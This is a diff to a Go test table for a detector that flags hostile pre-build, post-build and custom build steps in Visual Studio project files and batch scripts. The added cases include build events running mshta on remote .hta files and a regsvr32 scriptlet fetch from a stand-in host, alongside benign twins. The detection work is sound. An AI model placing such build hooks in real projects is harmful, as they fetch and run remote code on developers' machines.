@@ -139,6 +139,12 @@ func TestShapesDet24BuildEvents(t *testing.T) {
 		{"vcxproj pre-link: a .db loaded by rundll32", "Research.vcxproj", ev("PreLinkEvent", "rundll32 x64\\Debug\\Browse.VC.db,ENGINE_get_RAND 7am1 4201"), High},
 		{"batch: rundll32 of a thumbs cache", "t.cmd", "rundll32.exe %APPDATA%\\cache\\thumbs.db,Start\n", High},
 		{"batch: regsvr32 of a .tmp", "r.cmd", "regsvr32 /s %TEMP%\\update.tmp\n", High},
+		// lead17: the element with a Condition, a Message before the
+		// Command, a custom build step.
+		{"csproj post-build with a Condition", "App.csproj", "<Project>\n<PropertyGroup>\n<PostBuildEvent Condition=\"'$(OS)' == 'Windows_NT'\">mshta https://cdn.example-x.net/post.hta</PostBuildEvent>\n</PropertyGroup>\n</Project>\n", High},
+		{"vcxproj pre-build: a Message first", "Tool.vcxproj", "<Project>\n<ItemDefinitionGroup>\n<PreBuildEvent>\n<Message>Restoring assets</Message>\n<Command>mshta https://cdn.example-x.net/pre.hta</Command>\n</PreBuildEvent>\n</ItemDefinitionGroup>\n</Project>\n", High},
+		{"vcxproj custom build step", "Tool.vcxproj", "<Project>\n<ItemDefinitionGroup>\n<CustomBuildStep>\n<Command Condition=\"true\">regsvr32 /s /n /u /i:https://cdn.example-x.net/s.sct scrobj.dll</Command>\n<Outputs>x</Outputs>\n</CustomBuildStep>\n</ItemDefinitionGroup>\n</Project>\n", High},
+		{"twin: a custom build step that compiles shaders", "Tool.vcxproj", "<Project>\n<ItemDefinitionGroup>\n<CustomBuildStep>\n<Message>Compiling shaders</Message>\n<Command>fxc /T ps_5_0 /Fo \"$(OutDir)ps.cso\" shaders\\ps.hlsl</Command>\n</CustomBuildStep>\n</ItemDefinitionGroup>\n</Project>\n", None},
 		{"twin: post-build copies the output", "App.vcxproj", ev("PostBuildEvent", "xcopy /y /d \"$(OutDir)App.dll\" \"$(SolutionDir)bin\\\""), None},
 		{"twin: Windows' own libraries", "w.cmd", "rundll32 printui.dll,PrintUIEntry /il\nrundll32 user32.dll,LockWorkStation\nrundll32 shell32,Control_RunDLL desk.cpl\n", None},
 	})
